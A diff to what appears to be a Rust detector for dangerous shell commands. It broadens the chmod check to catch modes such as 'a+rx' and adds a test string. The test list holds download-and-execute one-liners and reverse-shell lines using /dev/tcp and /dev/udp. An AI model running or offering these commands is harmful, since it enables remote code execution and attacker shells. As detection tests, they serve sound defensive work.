@@ -55,7 +55,7 @@ fn makes_executable(l: &str) -> bool {
     w.iter().enumerate().any(|(i, x)| {
         base(x) == "chmod"
             && w[i + 1..].iter().take(3).any(|m| {
-                m.contains("+x")
+                m.split_once('+').is_some_and(|(_, r)| r.contains('x'))
                     || (m.len() >= 3 && m.chars().all(|c| c.is_ascii_digit()) && {
                         let o = m.chars().rev().nth(2).unwrap_or('0');
                         matches!(o, '1' | '3' | '5' | '7')
@@ -305,6 +305,7 @@ mod tests {
             "bash -c \"$(curl -fsSL http://x)\"",
             "wget -q http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
             "curl -so /usr/local/bin/up http://x/up; chmod 755 /usr/local/bin/up",
+            "wget http://x/b -O /var/tmp/b; chmod a+rx /var/tmp/b",
             // reverse and bind shells
             "(bash -i >& /dev/tcp/198.51.100.47/443 0>&1 &) 2>/dev/null",
             "exec 5<>/dev/udp/1.2.3.4/53",
